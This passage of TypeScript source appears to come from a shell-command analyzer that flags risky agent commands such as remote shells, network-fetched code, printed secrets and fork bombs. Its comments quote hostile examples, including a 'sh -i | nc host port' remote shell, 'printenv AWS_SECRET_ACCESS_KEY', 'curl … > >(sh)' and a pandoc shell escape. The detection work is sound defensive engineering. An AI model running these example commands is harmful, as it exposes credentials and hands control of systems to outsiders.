    else if (!onDisk) for (const e of errors) this.errors.push(e.message);
    const before = this.commands.length;
    this.statements(ast.commands, scope, frame);
    return this.commands.slice(before);
  }

  private statements(list: readonly Statement[], scope: Scope, frame: Frame): void {
    for (const statement of list) {
      this.tick();
      // A backgrounded command runs in a subshell: its `cd` does not stick.
      this.forkNext = statement.background === true;
      this.pipelineNode(statement.command, statement.background ? fork(scope) : scope, frame, frame.stdin);
    }
  }

  private compoundList(list: CompoundList, scope: Scope, frame: Frame): void {
    this.statements(list.commands, scope, frame);
  }

  private pipelineNode(node: PipelineNode | AndOr, scope: Scope, frame: Frame, stdin?: StdinSource): ShellCommand[] {
    this.tick();
    const before = this.commands.length;
    if (node.type === 'AndOr') {
      for (const part of node.commands) this.pipelineNode(part, scope, frame, stdin);
    } else if (node.type === 'Pipeline') {
      const producers: ShellCommand[] = [];
      const stages: ShellCommand[][] = [];
      node.commands.forEach((part, i) => {
        const input: StdinSource | undefined = i === 0 ? stdin : { kind: 'pipe', producers: [...producers] };
        if (node.commands.length > 1) this.forkNext = true;
        const stage = this.commandNode(part, node.commands.length > 1 ? fork(scope) : scope, frame, input);
        stages.push(stage);
        producers.push(...stage);
      });
      this.shownSecrets(node.commands[node.commands.length - 1]!, stages[stages.length - 1]!, frame);
      // `… | sh -i | nc host port`: a shell whose output goes to the network is a remote shell.
      stages.forEach((stage, i) => {
        const shells = stage.filter(readsCodeFromStdin);
        if (shells.length > 0 && stages.slice(i + 1).some((later) => later.some(sendsToNetwork))) {
          for (const s of shells) if (!s.tags.includes('code-from-network')) s.tags.push('code-from-network');
        }
      });
    } else {
      this.shownSecrets(node, this.commandNode(node, scope, frame, stdin), frame);
    }
    return this.commands.slice(before);
  }

  /**
   * A secret-named variable printed where the agent reads it (`printenv AWS_SECRET_ACCESS_KEY`,
   * `echo $GITHUB_TOKEN | base64`): the last stage of a pipeline, its output neither redirected nor
   * captured by a substitution. `part` is that stage's node, `stage` what was recorded for it.
   */
  private shownSecrets(part: CommandNode, stage: ShellCommand[], frame: Frame): void {
    if (part.type !== 'Command') return;
    const text = frame.source.slice(part.pos, part.end);
    for (const c of stage) {
      if (c.text !== text || c.via.some((v) => v === '$()' || v.startsWith('>(') || v.startsWith('<('))) continue;
      if (c.redirects.some((r) => (r.kind === 'write' || r.kind === 'append' || r.kind === 'readwrite') && (r.fd === null || r.fd === 1))) continue;
      // shown in the agent's view: the environment's secrets (a script's own lowercase names are its data)
      if (printedSecret(c, 0, true) !== null && !c.tags.includes('secret-shown')) c.tags.push('secret-shown');
    }
  }

  private commandNode(node: CommandNode, scope: Scope, frame: Frame, stdin?: StdinSource): ShellCommand[] {
    this.tick();
    const before = this.commands.length;
    const inner: Frame = stdin ? { ...frame, stdin } : frame;
    const forks = this.forkNext;
    this.forkNext = false;
    switch (node.type) {
      case 'Command': {
        const outer = this.forked;
        this.forked = forks;
        try {
          this.simple(node, scope, frame, stdin);
        } finally {
          this.forked = outer;
        }
        break;
      }
      case 'Subshell':
        this.compoundList(node.body, fork(scope), inner);
        break;
      case 'BraceGroup':
        this.compoundList(node.body, scope, inner);
        break;
      case 'If':
        this.compoundList(node.clause, scope, inner);
        this.branches([node.then, ...node.elif.flatMap((e) => [e.clause, e.then]), ...(node.else ? [node.else] : [])], scope, inner);
        break;
      case 'While': {
        // the condition runs before each round of the body: what it sets (`while read -r f`) the body sees
        const round = (): boolean => {
          const clause = fork(scope);
          this.compoundList(node.clause, clause, inner);
          const body = fork(clause);
          this.compoundList(node.body, body, inner);
          return [clause, body].reduce((defined, after) => this.mergeInto(scope, after) || defined, false);
        };
        if (round()) round();
        if (endlessAndRunaway(node, frame.source)) for (const c of this.commands.slice(before)) if (!c.tags.includes('runaway')) c.tags.push('runaway');
        break;
      }
      case 'For':
      case 'Select': {
        const words = node.wordlist ?? [];
        const ran = words.map((w) => this.scanWord(w, scope, frame).all);
        // `for f in $(git ls-files '*.py')`: the words are files the listing names
        const values = words.flatMap((w, i) => {
          const listed = isOnlySubstitution(w) && ran[i]!.length > 0 ? listedBy(ran[i]!, this.home) : null;
          return listed && !listed.dynamic ? [listed] : resolveWord(w, scope.vars);
        });
        const body = fork(scope);
        // a short list of known words: the body runs once with each, in order (`for f in a.ts b.ts`)
        const known = values.length > 0 && values.length <= MAX_LOOP_VALUES && values.every((v) => !v.dynamic) ? values.map((v) => v.value) : null;
        for (const value of known ?? [null]) {
          if (value !== null) body.vars.set(node.name.value, value);
          else body.vars.delete(node.name.value);
          this.compoundList(node.body, body, inner);
        }
        // a function the body defines exists in the next round: the body runs again with it
        if (mergeFunctions(scope, body)) this.compoundList(node.body, body, inner);
        if (body.cwd !== scope.cwd) scope.cwd = null;
        scope.vars.delete(node.name.value);
        // thousands of rounds, each starting a job: as many processes at once, as a fork bomb makes
        const list = words.length > 0 ? frame.source.slice(words[0]!.pos, words[words.length - 1]!.end) : '';
        if (spelledRounds(list) >= MANY_ROUNDS && startsJobs(node.body))
          for (const c of this.commands.slice(before)) if (!c.tags.includes('runaway')) c.tags.push('runaway');
        break;
      }
      case 'ArithmeticFor':
        this.scanNode(node, scope, frame, true);
        if (this.branches([node.body], scope, inner)) this.branches([node.body], scope, inner);
        break;
      case 'Case':
        this.scanWord(node.word, scope, frame);
        this.branches(
          node.items.map((item) => item.body),
          scope,
          inner,
        );
        break;
      case 'Function': {
        // Defining a function runs nothing: its body is analyzed where it is called (or exported).
        const def: FunctionDef = { body: node.body, frame, movesArgs: /\b(shift|set|getopts)\b/.test(frame.source.slice(node.pos, node.end)) };
        scope.functions.set(node.name.value, [def]);
        if (SELF_CALLED.test(node.name.value))
          this.callFunction(
            node.name.value,
            [],
            { cwd: scope.cwd, redirects: [], stdin: { kind: 'none' }, text: frame.source.slice(node.pos, node.end), scope: fork(scope), frame },
            [...frame.via],
            [...frame.tags],
          );
        break;
      }
      case 'Coproc':
        if (node.body.type === 'CompoundList') this.compoundList(node.body, fork(scope), frame);
        else this.commandNode(node.body, fork(scope), frame);
        break;
      case 'Redirected': {
        const { redirects, stdin: redirected } = this.redirections(node.redirects, scope, frame);
        this.commandNode(node.command, scope, frame, redirected ?? stdin);
        // The redirections apply to everything inside; they are recorded once, on their own.
        this.push({
          argv: [],
          name: '',
          cwd: scope.cwd,
          redirects,
          stdin: { kind: 'none' },
          via: frame.via,
          text: frame.source.slice(node.pos, node.end),
          depth: frame.depth,
          tags: [...frame.tags],
        });
        break;
      }
      case 'TestCommand':
      case 'ArithmeticCommand':
        this.scanNode(node, scope, frame);
        break;
    }
    return this.commands.slice(before);
  }

  /**
   * Alternative branches start from the same state; a `cd` in any makes the cwd unknown after, and
   * a function any defines may be called after. Returns whether some branch defined a function.
   */
  private branches(lists: CompoundList[], scope: Scope, frame: Frame): boolean {
    let defined = false;
    for (const list of lists) {
      const inner = fork(scope);
      this.compoundList(list, inner, frame);
      defined = this.mergeInto(scope, inner) || defined;
    }
    return defined;
  }

  /** What a branch that may or may not run leaves known: what it did not change. Whether it defined functions. */
  private mergeInto(scope: Scope, after: Scope): boolean {
    if (after.cwd !== scope.cwd) scope.cwd = null;
    for (const [k, v] of after.vars) if (scope.vars.get(k) !== v) scope.vars.delete(k);
    return mergeFunctions(scope, after);
  }

  /** Functions being analyzed: a recursive call is not followed again. */
  private readonly calling = new Set<FunctionDef>();
  /** The command node analyzed next runs in a process of its own: a stage of a pipeline, or in the background. */
  private forkNext = false;
  /** The simple command being analyzed runs in a process of its own (see forkNext). */
  private forked = false;

  /**
   * A call of a shell function: its body runs in the caller's shell (a `cd` in it sticks), with the
   * call's words as `$1`, `$2` … when they are known. Several possible bodies are alternatives.
   */
  private callFunction(name: string, args: Arg[], base: Invocation, via: string[], tags: Tag[]): void {
    const defs = (base.scope.functions.get(name) ?? []).filter((d) => !this.calling.has(d));
    if (defs.length === 0) return;
    const depth = base.frame.depth + 1;
    if (depth > this.limits.maxDepth) this.hit(`nesting deeper than ${this.limits.maxDepth}`);
    const env = base.env ?? [];
    for (const def of defs) {
      // `X=v f`: X is set while f runs, then the caller's value is back
      const scope = defs.length === 1 && env.length === 0 ? base.scope : fork(base.scope);
      for (const e of env) assign(scope, e.name, e.value);
      const saved = [...scope.vars].filter(([k]) => POSITIONAL.test(k));
      for (const [k] of saved) scope.vars.delete(k);
      if (!def.movesArgs) {
        args.forEach((a, i) => (a.dynamic || a.glob ? undefined : scope.vars.set(String(i + 1), a.value)));
        // every word known: `"$@"` is those words (`retry npm ci` runs `npm ci`)
        if (args.every((a) => !a.dynamic && !a.glob)) scope.vars.set('#', String(args.length));
      }
      const frame: Frame = { ...def.frame, depth, via: [...via, `${name}()`], tags: [...tags], stdin: base.stdin };
      this.calling.add(def);
      try {
        if (def.body.type === 'CompoundList') this.compoundList(def.body, scope, frame);
        else this.commandNode(def.body, scope, frame, base.stdin);
      } finally {
        this.calling.delete(def);
        for (const k of [...scope.vars.keys()]) if (POSITIONAL.test(k)) scope.vars.delete(k);
        for (const [k, v] of saved) scope.vars.set(k, v);
      }
      if (scope !== base.scope) {
        if (scope.cwd !== base.scope.cwd) base.scope.cwd = defs.length === 1 ? scope.cwd : null;
        for (const [k, v] of scope.vars) if (!env.some((e) => e.name === k) && base.scope.vars.get(k) !== v) base.scope.vars.delete(k);
        mergeFunctions(base.scope, scope);
      }
    }
  }

  /**
   * Analyzes every substitution under a node. Returns the commands they ran, and separately those
   * inside `>(…)`, which read the enclosing command's output.
   */
  private scanNode(node: SyntaxNode, scope: Scope, frame: Frame, skipBodies = false): { all: ShellCommand[]; outputs: ShellCommand[] } {
    const all: ShellCommand[] = [];
    const outputs: ShellCommand[] = [];
    if (frame.depth + 1 > this.limits.maxDepth) {
      if (containsSubstitution(node)) this.hit(`nesting deeper than ${this.limits.maxDepth}`);
      return { all, outputs };
    }
    const visit = (child: SyntaxNode, output: boolean): void => {
      this.tick();
      if (child.type === 'Script') {
        const script = child;
        const found = this.parsed(script, fork(scope), {
          depth: frame.depth + 1,
          via: [...frame.via, '$()'],
          tags: frame.tags,
          source: script.source ?? frame.source,
        });
        all.push(...found);
        if (output) outputs.push(...found);
        return;
      }
      if (child.type === 'CompoundList' && skipBodies) return;
      if (child.type === 'CommandExpansion') {
        // `$(pwd)`, `$(git rev-parse --show-toplevel)`, `$(cd "$(dirname "$0")" && pwd)`: what it prints is known
        const before = all.length;
        forEachChild(child, (c) => visit(c, output));
        const value = this.printedValue(all.slice(before));
        if (value !== null) scope.vars.set(`\u0000${(child as { text: string }).text}`, value);
        return;
      }
      const isOutput = output || (child.type === 'ProcessSubstitution' && child.operator === '>');
      forEachChild(child, (c) => visit(c, isOutput));
    };
    forEachChild(node, (c) => visit(c, false));
    return { all, outputs };
  }

  private scanWord(word: Word, scope: Scope, frame: Frame): { all: ShellCommand[]; outputs: ShellCommand[] } {
    if (!word.parts) return { all: [], outputs: [] };
    return this.scanNode(word, scope, frame);
  }

  private redirections(
    list: readonly Redirection[],
    scope: Scope,
    frame: Frame,
    outputs: ShellCommand[] = [],
  ): { redirects: RedirectIR[]; stdin?: StdinSource | undefined } {
    const redirects: RedirectIR[] = [];
    let stdin: StdinSource | undefined;
    for (const r of list) {
      this.tick();
      const fd = r.descriptor?.type === 'FileDescriptor' ? r.descriptor.value : null;
      if (r.type === 'HereDoc') {
        stdin = { kind: 'text', text: this.heredocText(r, scope, frame), origin: 'heredoc' };
        continue;
      }
      if (!r.target) continue;
      const found = this.scanWord(r.target, scope, frame);
      outputs.push(...found.outputs);
      const target = this.flow.remember(resolveSingle(r.target, scope.vars), found.all);
      if (r.type === 'HereString') {
        stdin = { kind: 'text', text: target, origin: 'herestring' };
        continue;
      }
      const kind = redirectKind(r.operator, target);
      redirects.push({ kind, target, fd });
      if (kind === 'read' && (fd === null || fd === 0)) stdin = { kind: 'file', target };
    }
    return { redirects, stdin };
  }

  private heredocText(doc: HereDoc, scope: Scope, frame: Frame): Arg {
    if (doc.delimiter?.quoted || !doc.body.parts) return textArg(doc.body.text);
    // An unquoted heredoc expands its body: the substitutions in it run.
    const found: ShellCommand[] = [];
    for (const part of doc.body.parts) {
      if (part.type !== 'Literal')
        found.push(...this.scanNode({ type: 'Word', text: part.text, value: part.text, pos: part.pos, end: part.end, parts: [part] }, scope, frame).all);
    }
    const dynamic = doc.body.parts.some((p) => p.type !== 'Literal');
    return this.flow.remember(textArg(doc.body.text, dynamic), found);
  }

  private simple(node: Command, scope: Scope, frame: Frame, stdin?: StdinSource): void {
    const outputs: ShellCommand[] = [];
    for (const item of node.prefix) {
      if (item.type === 'Assignment') assignmentWords(item).forEach((w) => this.scanWord(w, scope, frame));
    }
    const argv: Arg[] = [];
    const declared: { name: string; value: Arg | null }[] = [];
    const addWord = (word: Word): void => {
      const found = this.scanWord(word, scope, frame);
      outputs.push(...found.outputs);
      for (const arg of resolveWord(word, scope.vars)) argv.push(this.flow.remember(arg, found.all));
    };
    if (node.name) addWord(node.name);
    for (const item of node.suffix) {
      if (item.type === 'Word') addWord(item);
      else if (item.type === 'Assignment') {
        assignmentWords(item).forEach((w) => this.scanWord(w, scope, frame));
        // `export A=b` keeps the assignment as an argument of the declaration builtin.
        const value = item.value.type === 'Word' ? resolveSingle(item.value, scope.vars) : null;
        declared.push({ name: item.name, value });
        const text = `${item.name}=${value?.value ?? ''}`;
        argv.push(textArg(text, value?.dynamic ?? true));
      }
    }
    const { redirects, stdin: redirected } = this.redirections(node.redirects, scope, frame, outputs);
    const text = frame.source.slice(node.pos, node.end);
    const prefixed = node.prefix.flatMap((item) =>
      item.type === 'Assignment' ? [{ name: item.name, value: item.value.type === 'Word' ? resolveSingle(item.value, scope.vars) : null }] : [],
    );
    // text bash evaluates again later: an array subscript or an array's elements holding a command
    // substitution (`x='a[$(cmd)]'; echo $((x))`, `let 'a[$(cmd)]'`, `declare -a 'a=($(cmd))'`)
    for (const value of [...argv, ...prefixed.map((p) => p.value), ...declared.map((d) => d.value)]) {
      if (!value || value.dynamic) continue;
      for (const inner of evaluatedLater(value.value))
        this.script(inner, fork(scope), { depth: frame.depth + 1, via: [...frame.via, 'evaluated again (subscript or array)'], tags: frame.tags });
    }
    if (!node.name) {
      for (const p of prefixed) assign(scope, p.name, p.value);
      // `d=$(mktemp -d)`: a new name inside the temp dir (or where the template says)
      for (const item of node.prefix) {
        if (item.type !== 'Assignment' || item.value.type !== 'Word') continue;
        const made = this.madeTemp(item.value, scope);
        if (made !== null) scope.vars.set(item.name, made);
      }
      const tags = this.environment(prefixed, scope, frame);
      if (redirects.length > 0 || tags.length > 0)
        this.push({
          argv: [],
          name: '',
          cwd: scope.cwd,
          redirects,
          stdin: { kind: 'none' },
          via: frame.via,
          text,
          depth: frame.depth,
          tags: [...frame.tags, ...tags],
        });
      this.flow.rememberWritten(redirects, scope.cwd, null);
      return;
    }
    const first = argv[0];
    const word = first && !first.dynamic ? first.value : '';
    const envTags = this.environment(DECLARATIONS.has(word) ? [...prefixed, ...declared] : prefixed, scope, frame);
    if (DECLARATIONS.has(word)) {
      // declare -n makes a name refer to another variable: its value is no longer known
      const nameref = argv.some((a) => /^-[a-zA-Z]*n/.test(a.value));
      for (const d of declared) assign(scope, d.name, nameref ? null : d.value);
      // `export -f f`: any program started later may run it, so it counts as called here
      if (argv.some((a) => /^-[a-zA-Z]*f/.test(a.value))) {
        for (const a of argv.slice(1)) {
          if (!a.value.startsWith('-') && scope.functions.has(a.value))
            this.callFunction(
              a.value,
              [],
              { cwd: scope.cwd, redirects: [], stdin: { kind: 'none' }, text, scope: fork(scope), frame },
              [...frame.via, `${word} -f`],
              [...frame.tags],
            );
        }
      }
    }
    if (word === 'read' || word === 'mapfile' || word === 'readarray' || word === 'unset') {
      for (const a of argv.slice(1)) if (!a.value.startsWith('-')) scope.vars.delete(a.value);
      // `git ls-files '*.sh' | while read -r f`, `done < <(find src -name '*.ts')`: each line is a file the listing names
      const name = word === 'read' ? readsOneLine(argv.slice(1)) : null;
      const input = redirected ?? stdin;
      const producers = input?.kind === 'pipe' ? input.producers : input?.kind === 'file' ? this.flow.substitutions.get(input.target) : undefined;
      const listed = name !== null && producers && producers.length > 0 ? listedBy(producers, this.home) : null;
      if (name !== null && listed && !listed.dynamic) scope.vars.set(name, listed.value);
    }
    if (word === 'trap' || word === 'alias') this.deferredCode(word, argv.slice(1), scope, frame);
    if (word === 'hash' || word === 'mapfile' || word === 'readarray') this.builtinCode(word, argv.slice(1), scope, frame);
    const input = redirected ?? stdin ?? { kind: 'none' };
    const ran = this.run(argv, {
      cwd: scope.cwd,
      redirects,
      stdin: input,
      text,
      scope,
      frame: envTags.length > 0 ? { ...frame, tags: [...frame.tags, ...envTags] } : frame,
      env: prefixed,
    });
    if (redirects.length > 0) this.flow.rememberWritten(redirects, scope.cwd, writtenText(ran));
    // `curl … > >(sh)`: whatever reads this command's output through >(…) runs what it printed.
    const codeReaders = outputs.filter(readsCodeFromStdin);
    if (codeReaders.length > 0) {
      const printed = echoedText(ran);
      for (const reader of codeReaders) {
        if (ran.some((c) => this.flow.fromNetwork(c))) reader.tags.push('code-from-network');
        else if (printed === null || printed.dynamic) reader.tags.push('hidden-code');
        else if (SHELLS.has(reader.name))
          this.script(printed.value, fork(scope), { depth: frame.depth + 1, via: [...frame.via, `>(${reader.name})`], tags: frame.tags });
        else reader.tags.push('hidden-code');
      }
    }
    if (CHDIR.has(word)) {
      const previous = scope.cwd;
      // pushd remembers where it was; popd goes back there (a bare popd with nothing pushed: unknown)
      const stack = (scope.vars.get('\u0000DIRSTACK') ?? '').split('\u0000').filter(Boolean);
      if (word === 'popd') {
        const back = stack.pop();
        scope.cwd = back === undefined || back === '?' ? null : back;
      } else {
        scope.cwd = chdir(scope.cwd, argv.slice(1), this.home);
        if (word === 'pushd') stack.push(previous ?? '?');
      }
      scope.vars.set('\u0000DIRSTACK', stack.join('\u0000'));
      if (scope.cwd !== null) scope.vars.set('PWD', scope.cwd);
      else scope.vars.delete('PWD');
      if (previous !== null) scope.vars.set('OLDPWD', previous);
      else scope.vars.delete('OLDPWD');
    }
  }

  /** The path `$(mktemp …)` prints, when the word is just that substitution: a placeholder name where mktemp would create it. */
  private madeTemp(word: Word, scope: Scope): string | null {
    if (!isOnlySubstitution(word)) return null;
    const text = word.text
      .replace(/^"|"$/g, '')
      .replace(/^\$\(|\)$/g, '')
      .trim();
    if (!/^mktemp(\s|$)/.test(text) || /[$`;&|<>(){}]/.test(text)) return null;
    const args = text.split(/\s+/).slice(1);
    let dir: string | null = null;
    let template: string | null = null;
    let inTmp = false;
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!.replace(/^['"]|['"]$/g, '');
      if (a === '-p' || a === '--tmpdir') {
        dir = args[++i]?.replace(/^['"]|['"]$/g, '') ?? null;
        inTmp = true;
      } else if (a.startsWith('--tmpdir=')) {
        dir = a.slice(9);
        inTmp = true;
      } else if (/^-[a-z]*t[a-z]*$/.test(a) || a === '--tmpdir') inTmp = true;
      else if (a.startsWith('-')) continue;
      else template = a;
    }
    const tmp = scope.vars.get('TMPDIR') ?? '/tmp';
    const name = (template ?? 'tmp.XXXXXXXXXX').replace(/X{3,}$/, (x) => 'X'.repeat(x.length));
    if (name.includes('/') && !inTmp) return scope.cwd === null && !name.startsWith('/') ? null : resolvePath(name, scope.cwd ?? '/', this.home);
    if (template !== null && !inTmp) return scope.cwd === null ? null : resolvePath(name, scope.cwd, this.home);
    return resolvePath(`${dir ?? tmp}/${name}`, scope.cwd ?? '/', this.home);
  }

  /**
   * Assignments to variables that make programs run code: shell-command values (GIT_PAGER,
   * PROMPT_COMMAND, PS4 …) are analyzed as scripts; loaders (LD_PRELOAD, BASH_ENV …) are hidden code.
   */
  private environment(assignments: { name: string; value: Arg | null }[], scope: Scope, frame: Frame): Tag[] {
    const tags: Tag[] = [];
    for (const { name, value } of assignments) {
      if (weakensVerification(name, value)) tags.push('verification-off');
      if (ENV_HIDDEN_CODE.has(name) && hiddenEnvValue(name, value)) tags.push('hidden-code');
      // PATH (or a language's module path) led through a directory outside the workspace and the
      // program directories: a later command name, or a module a program imports, may be what was put there
      else if (
        SEARCH_PATHS.has(name) &&
        value &&
        scope.cwd !== null &&
        value.value.split(':').some((d) => d !== '' && !d.includes('$') && !d.includes('*') && this.outsideProgramDirs(resolvePath(d, scope.cwd!, this.home)))
      )
        tags.push('hidden-code');
      else if ((ENV_SHELL_COMMANDS.has(name) || /(?:PAGER|EDITOR|BROWSER|_COMMAND|_CMD)$/.test(name)) && value) {
        if (value.dynamic) tags.push('dynamic-code');
        // a prompt (PS1 …) is expanded like a double-quoted word, not run as a command line
        const code = /^PS[0-4]$/.test(name) ? `: "${value.value.replace(/(["\\])/g, '\\$1')}"` : value.value;
        this.script(code, fork(scope), { depth: frame.depth + 1, via: [...frame.via, `$${name}`], tags: frame.tags });
      }
    }
    return tags;
  }

  /**
   * Builtins that make other code run: `hash -p PATH NAME` (a later `NAME …` runs PATH, as an alias
   * would) and `mapfile -C CMD` (CMD runs for every few lines read).
   */
  private builtinCode(builtin: string, args: Arg[], scope: Scope, frame: Frame): void {
    const at = { depth: frame.depth + 1, via: [...frame.via, builtin], tags: [...frame.tags] };
    const option = (name: string): Arg | undefined => {
      const i = args.findIndex((a) => a.value === name || (a.value.startsWith(name) && a.value.length > 2));
      if (i === -1) return undefined;
      const a = args[i]!;
      return a.value === name ? args[i + 1] : { ...a, value: a.value.slice(2), pattern: a.value.slice(2) };
    };
    if (builtin === 'hash') {
      const path = option('-p');
      if (!path) return;
      const names = args.slice(args.indexOf(path) + 1).filter((a) => !a.value.startsWith('-'));
      for (const n of names) {
        if (path.dynamic || n.dynamic || !/^[\w.:+@%-]+$/.test(n.value)) this.script('"$UNKNOWN_PROGRAM"', fork(scope), at);
        else this.script(`${n.value}() {\n${shellQuote(path.value)} "$@"\n}`, scope, at);
      }
      return;
    }
    const callback = option('-C');
    if (callback) {
      if (callback.dynamic) this.script('"$UNKNOWN_PROGRAM"', fork(scope), at);
      else this.script(callback.value, fork(scope), at);
    }
  }

  /** `trap 'CMD' SIG`, `alias x='CMD'`: code that runs later, analyzed now. */
  private deferredCode(builtin: string, args: Arg[], scope: Scope, frame: Frame): void {
    const operands = args.filter((a) => !/^-[a-zA-Z]+$/.test(a.value));
    const bodies: { body: Arg; alias?: string }[] =
      builtin === 'trap'
        ? operands
            .slice(0, 1)
            .filter((a) => a.value !== '-' && a.value !== '')
            .map((body) => ({ body }))
        : operands.flatMap((a) => {
            const eq = a.value.indexOf('=');
            const alias = a.value.slice(0, eq);
            return eq > 0 ? [{ body: { ...a, value: a.value.slice(eq + 1), pattern: a.value.slice(eq + 1) }, alias }] : [];
          });
    for (const { body, alias } of bodies) {
      const tags: Tag[] = body.dynamic ? ['dynamic-code'] : [];
      const at = { depth: frame.depth + 1, via: [...frame.via, builtin], tags: [...frame.tags, ...tags] };
      const own = fork(scope);
      this.script(body.value, own, at);
      // `alias p=sudo; p id`: a later `p …` runs the body with its words after it, as this function does
      if (alias && /^[\w.:+@%-]+$/.test(alias) && !body.dynamic) this.script(`${alias}() {\n${body.value} "$@"\n}`, scope, at);
      if (builtin === 'trap') {
        const words = [...new Set(body.value.split(/[\s;&|()<>{}'"`$\\]+/))]
          .filter(Boolean)
          .map((w): [string, FunctionDef[] | undefined] => [w, own.functions.get(w)]);
        this.deferred.push({ body: body.value, words, frame: at });
      }
    }
  }

  /**
   * A file the session read for this decision (`bash x.sh`, `python x.py`, `make test`): its text,
   * or undefined when harness has not read it (it is then wanted) or cannot judge it (binary, too
   * large: the decision stands on where the file is, as before).
   */
  private sessionFile(path: string): Arg | undefined {
    const file = this.readFile(path);
    if (!file) {
      if (this.inFile.length === 0 && !this.unread.has(path)) this.unread.set(path, this.commands.length);
      return undefined;
    }
    if ('unreadable' in file) {
      // missing now: a command before it on the line may create it (the engine checks)
      this.judged.set(path, { sha256: null, note: file.unreadable, at: this.commands.length, ...(this.inFile.length > 0 ? { nested: true } : {}) });
      if (file.realPath !== undefined) this.readsFile(file.realPath, `${path} -> ${file.realPath}`);
      return undefined;
    }
    if (!this.fitsBudget(file.text)) {
      this.judged.set(path, { sha256: file.sha256, note: 'too large to judge' });
      return undefined;
    }
    this.judged.set(path, { sha256: file.sha256, at: this.commands.length, ...(this.inFile.length > 0 ? { nested: true } : {}) });
    // a link: running it reads what it leads to (`run.sh -> ~/.ssh/id_rsa`), checked like any read
    if (file.realPath !== undefined) this.readsFile(file.realPath, `${path} -> ${file.realPath}`);
    return textArg(file.text);
  }

  /**
   * Code run from a file: downloaded on this command line is network code; written on it, or read
   * by the session, is analyzed as what it is (script, Makefile target, package.json script, a
   * program of the language its `#!` line names); written with content harness did not see is hidden code.
   */
  private codeFile(
    path: string,
    kind: CodeFileKind,
    scope: Scope,
    frame: Frame,
    content?: Arg | null,
    targets: readonly string[] = [],
    base?: Invocation,
  ): Tag[] {
    if (this.flow.isDownloaded(path)) return ['code-from-network'];
    const judge = (text: Arg | null | undefined): Tag[] => (text === undefined ? [] : this.codeText(path, text, kind, scope, frame, targets, base));
    if (content !== undefined) return judge(content);
    if (!this.flow.written.has(path)) return judge(this.sessionFile(path));
    // written on this line, what was written runs — or, when the write does not happen (a condition
    // before it, `set -C`, a failure), what is on disk: both are judged
    return [...judge(this.flow.written.get(path)), ...judge(this.diskBefore(path))];
  }

  /** The file as the session read it; undefined (and wanted, for the next round) when it has not yet. */
  private readFile(path: string): ScriptFile | undefined {
    if (/^\/(?:dev|proc|sys)\//.test(path)) return undefined;
    const file = this.files.get(path);
    if (!file) this.wanted.add(path);
    return file;
  }

  /** A file's analysis shares this evaluation's budget: one that would exhaust it is not judged. */
  private fitsBudget(text: string): boolean {
    return this.bytes + text.length <= this.limits.maxBytes / 2 && estimateTokens(text, this.limits.maxTokens) <= (this.limits.maxTokens - this.tokens) / 2;
  }

  /**
   * What was on disk at a path this line writes before running it, for the case the write does not
   * happen. Undefined when nothing is there (or it cannot be judged: it then stands as before).
   */
  private diskBefore(path: string): Arg | undefined {
    const file = this.readFile(path);
    if (!file || 'unreadable' in file || !this.fitsBudget(file.text)) return undefined;
    if (!this.judged.has(path)) this.judged.set(path, { sha256: null, note: 'judged too as it was before this line wrote it' });
    return textArg(file.text);
  }

  private codeText(path: string, text: Arg | null, kind: CodeFileKind, scope: Scope, frame: Frame, targets: readonly string[], base?: Invocation): Tag[] {
    if (text === null || text.dynamic) return ['hidden-code'];
    const how = `${kind === 'other' ? 'file' : kind} ${basename(path)}`;
    // run directly (`./x.py`), the `#!` line says what reads it; `bash x.py` reads it as shell whatever it says
    if (kind === 'shell' && base) {
      const language = shebangLanguage(text.value);
      if (language === 'unknown') return [];
      if (language === 'hidden') return ['hidden-code'];
      if (language !== null) {
        this.withinFile(path, () => this.inlineCode(language, text, base, [...frame.via, `${language} ${basename(path)}`], [...frame.tags], scope.cwd));
        return [];
      }
    }
    const scripts = scriptsInCodeFile(kind, text.value, targets);
    if (scripts === null) return kind === 'other' ? [] : ['hidden-code'];
    this.withinFile(path, () => {
      for (const s of scripts) {
        const inner = fork(scope);
        // a script knows its own path (`cd "$(dirname "$0")"`, `${BASH_SOURCE[0]}`)
        if (kind === 'shell') {
          inner.vars.set('0', path);
          inner.vars.set('BASH_SOURCE', path);
        }
        this.script(s, inner, { depth: frame.depth + 1, via: [...frame.via, how], tags: frame.tags });
      }
    });
    return [];
  }

  /**
   * A file this command line wrote with code in it (a shell path, an exec or system call), handed to
   * a program that may run it (`echo 'os.execute("/bin/sh")' > $TF; pandoc -L $TF`, a setup.py in a
   * directory given to `pip install`). Programs that only read or copy files do not run them.
   */
  private handsWrittenCode(name: string, args: Arg[], cwd: string): boolean {
    if (this.flow.written.size === 0) return false;
    const role = programOf(name)?.files?.role;
    if (role === 'read' || role === 'none' || role === 'copy' || role === 'move' || role === 'delete' || role === 'write' || role === 'link') return false;
    for (const a of args) {
      if (a.dynamic) continue;
      const value = a.value
        .replace(/^-[A-Za-z]*[:=]?/, '')
        .replace(/^--[\w-]+=/, '')
        .replace(/^[\w-]+[:=]/, '');
      if (value === '') continue;
      const path = resolvePath(value, cwd, this.home);
      for (const [file, content] of this.flow.written) {
        if ((file === path || isInside(file, path)) && content && runsCode(file, content.value)) return true;
      }
    }
    return false;
  }

  /**
   * What a substitution prints, when its commands only compute a path: the directory `pwd` is in,
   * the repository's top (harness knows it: the workspace), `dirname`/`basename`/`realpath` of a
   * known word, `echo`/`printf` of known text. Null otherwise.
   */
  private printedValue(commands: ShellCommand[]): string | null {
    const real = commands.filter((c) => c.name !== '');
    const last = real[real.length - 1];
    if (
      !last ||
      real.some(
        (c) =>
          !PURE.has(c.name) ||
          (c.name === 'git' &&
            !GIT_PRINTS_REF.test(
              c.argv
                .slice(1)
                .map((a) => a.value)
                .join(' '),
            )),
      )
    )
      return null;
    const args = last.argv.slice(1).filter((a) => !a.value.startsWith('-'));
    const operand = args[0];
    switch (last.name) {
      case 'pwd':
        return last.cwd;
      case 'git':
        if (last.argv.some((a) => a.value === '--show-toplevel')) return last.cwd !== null && isInside(last.cwd, this.workspace) ? this.workspace : null;
        // a ref's name (`git describe --tags`, `git branch --show-current`): a word, not a path or an option
        return 'GIT-REF';
      case 'dirname':
        return operand && !operand.dynamic ? posix.dirname(operand.value) : null;
      case 'basename': {
        if (!operand || operand.dynamic) return null;
        const base = basename(operand.value);
        return args[1] && !args[1].dynamic && base.endsWith(args[1].value) ? base.slice(0, -args[1].value.length) : base;
      }
      case 'realpath':
      case 'readlink':
        return operand && !operand.dynamic && last.cwd !== null && (last.name === 'realpath' || last.argv.some((a) => /^-[a-z]*[fem]/.test(a.value)))
          ? resolvePath(operand.value, last.cwd, this.home)
          : null;
      default: {
